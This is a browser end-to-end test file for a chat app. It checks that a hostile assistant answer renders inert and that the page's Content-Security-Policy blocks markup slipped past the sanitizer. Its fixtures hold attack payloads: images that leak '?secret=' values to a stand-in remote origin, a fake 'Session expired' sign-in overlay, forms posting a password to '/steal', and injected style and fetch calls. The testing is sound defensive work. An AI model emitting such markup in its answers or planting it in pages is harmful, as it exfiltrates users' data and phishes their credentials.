"""In a real browser (headless Debian Chromium, Selenium) against the real processes: untrusted
text in the chat renders inert, and the Content-Security-Policy blocks the same on its own.

A hostile answer (a remote image, a style overlay, a form posting elsewhere, ...) must send no
request to its origin, style nothing and leave no form; markup put into the page past the
sanitizer is blocked by the policy; and the chat, the admin and the dashboard work under the
policy with no violation.
"""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.e2e.test_browser import (  # noqa: F401 - the browser tests' fixtures
    browser,
    sign_in,
    stack,
    staff_member,
)
from tests.support.e2e import wait_for

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

# Records, in each page the browser opens, the violations its policy reports.
VIOLATION_LISTENER = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__cspViolations.push(e.effectiveDirective + " " + e.blockedURI);
});
"""


class RemoteOrigin:
    """Another origin (the same host, another port) that records every request it gets."""

    def __init__(self):
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                seen.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> RemoteOrigin:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def remote():
    with RemoteOrigin() as origin:
        yield origin


@pytest.fixture
def violations(browser):  # noqa: F811 - the imported fixture
    """The policy violations reported in the page now open (each page the browser opens from
    now on records its own)."""
    added = browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument",
                                    {"source": VIOLATION_LISTENER})
    yield lambda: browser.execute_script("return window.__cspViolations || null")
    browser.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument",
                            {"identifier": added["identifier"]})


def hostile_answer(remote: str) -> str:
    return f"""Here is your summary.

![chart]({remote}/md-image.png?secret=1)

<img src="{remote}/html-image.png?secret=2">
<p style="position:fixed;inset:0;z-index:9999;background:#c00">Session expired, sign in below</p>
<form action="{remote}/steal" method="post"><input name="password"><button>Sign in</button></form>
<style>body {{ background: url({remote}/style-element.png) }}</style>
<svg><image href="{remote}/svg-image.png"></image></svg>
<table background="{remote}/table-background.png"><tr><td>cell</td></tr></table>
<video poster="{remote}/poster.png"></video>
<a href="{remote}/page" ping="{remote}/ping" class="layout" id="prompt">a link</a>

**still Markdown**: `code`, a [link]({remote}/doc) and

- [x] a task
"""


def open_conversation(driver, site, user, content: str):
    """A stored conversation of ``user`` whose answer is ``content``, open in the chat page:
    (the conversation, the answer's rendered body)."""
    from selenium.webdriver.common.by import By

    from chat.models import Conversation, Message

    conversation = Conversation.objects.create(user=user, tenant=user.membership.tenant,
                                               title="hostile")
    Message.objects.create(conversation=conversation, role="user", content="summarize")
    Message.objects.create(conversation=conversation, role="assistant", content=content)
    driver.get(f"{site.url}/chat/c/{conversation.pk}/")
    body = wait_for(lambda: driver.find_elements(By.CSS_SELECTOR, ".message.assistant .body"),
                    10)[0]
    # The websocket connects under the policy (connect-src 'self').
    assert wait_for(lambda: driver.find_element(By.ID, "connection").text == "connected", 10)
    return conversation, body


FIXED_ELEMENTS = """return Array.from(document.querySelectorAll("body *")).filter(
    function (e) { return getComputedStyle(e).position === "fixed"; }).length"""


def test_a_hostile_answer_renders_inert(
        stack, browser, staff_member, remote, violations):  # noqa: F811 - imported fixtures
    from selenium.webdriver.common.by import By

    sign_in(browser, stack)
    _, body = open_conversation(browser, stack, staff_member, hostile_answer(remote.url))
    time.sleep(1.5)  # an image or a form would have been fetched by now
    assert remote.requests == []
    active = ("img, form, input, button, textarea, select, style, svg, video, audio, iframe, "
              "object, embed, link, meta, [style], [class], [id], [background], [poster], "
              "[ping], [action], [src]")
    assert body.find_elements(By.CSS_SELECTOR, active) == []
    assert browser.execute_script(FIXED_ELEMENTS) == 0
    corner = browser.execute_script("return document.elementFromPoint(5, 5).closest('.message')")
    assert corner is None  # nothing covers the page
    # Still useful Markdown: emphasis, code, links (opening in a new tab), the image as a link.
    assert body.find_element(By.CSS_SELECTOR, "strong").text == "still Markdown"
    assert body.find_element(By.CSS_SELECTOR, "code").text == "code"
    image_link = body.find_element(By.PARTIAL_LINK_TEXT, "image: chart")
    assert image_link.get_attribute("href").startswith(f"{remote.url}/md-image.png")
    assert image_link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert "\u2611 a task" in body.text
    # The sanitizer parses the answer in an inert document that inherits the page's policy:
    # the style markup it then drops is reported as blocked there. Nothing else is: no URL.
    assert {v.split()[1] for v in violations()} <= {"inline"}, violations()


def test_the_policy_blocks_markup_that_gets_past_the_sanitizer(
        stack, browser, staff_member, remote, violations):  # noqa: F811 - imported fixtures
    sign_in(browser, stack)
    _, _ = open_conversation(browser, stack, staff_member, "hello")
    page = browser.current_url
    browser.execute_script("""
        const box = document.createElement("div");
        box.innerHTML = arguments[0];
        document.querySelector(".message.assistant .body").appendChild(box);
        fetch(arguments[1] + "/fetch").catch(function () {});
        document.getElementById("evil-form").requestSubmit();
    """, f"""<img src="{remote.url}/img.png">
             <p id="overlay" style="position:fixed;inset:0;z-index:9999">overlay</p>
             <style>body {{ display: none }}</style>
             <form id="evil-form" action="{remote.url}/steal" method="post">
               <input name="q" value="secret"></form>""", remote.url)
    time.sleep(1.5)
    assert remote.requests == []
    assert browser.current_url == page
    assert browser.execute_script(FIXED_ELEMENTS) == 0
    assert browser.execute_script("return getComputedStyle(document.body).display") != "none"
    blocked = {v.split()[0] for v in violations()}
    assert {"img-src", "style-src-attr", "style-src-elem", "connect-src",
            "form-action"} <= blocked, blocked


def test_the_chat_admin_and_dashboard_work_under_the_policy(
        stack, browser, staff_member, violations):  # noqa: F811 - imported fixtures
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    from chat.models import Conversation

    sign_in(browser, stack)
    conversation, _ = open_conversation(browser, stack, staff_member, "**hi**")
    # Delete asks first (the question moved from an inline handler to the page's script).
    browser.find_element(By.CSS_SELECTOR, "form.delete button").click()
    WebDriverWait(browser, 5).until(expected_conditions.alert_is_present()).dismiss()
    assert Conversation.objects.filter(pk=conversation.pk).exists()
    assert violations() == []

    tenant = staff_member.membership.tenant
    for path in ("/admin/", "/admin/tenants/apikey/", f"/admin/tenants/tenant/{tenant.pk}/change/",
                 "/admin/tenants/tenant/add/", "/admin/scheduler/"):
        browser.get(stack.url + path)
        assert wait_for(lambda: browser.execute_script("return document.readyState")
                        == "complete", 10)
        if path.endswith("/change/"):  # the admin's scripts ran: autocomplete widgets are built
            assert wait_for(lambda: browser.find_elements(By.CSS_SELECTOR,
                                                          ".select2-container"), 10), path
        if path == "/admin/scheduler/":
            assert wait_for(lambda: browser.find_element(By.ID, "dash-workers").text == "1", 15)
            assert len(browser.find_elements(By.CSS_SELECTOR, ".uplot")) == 5
        assert violations() == [], path
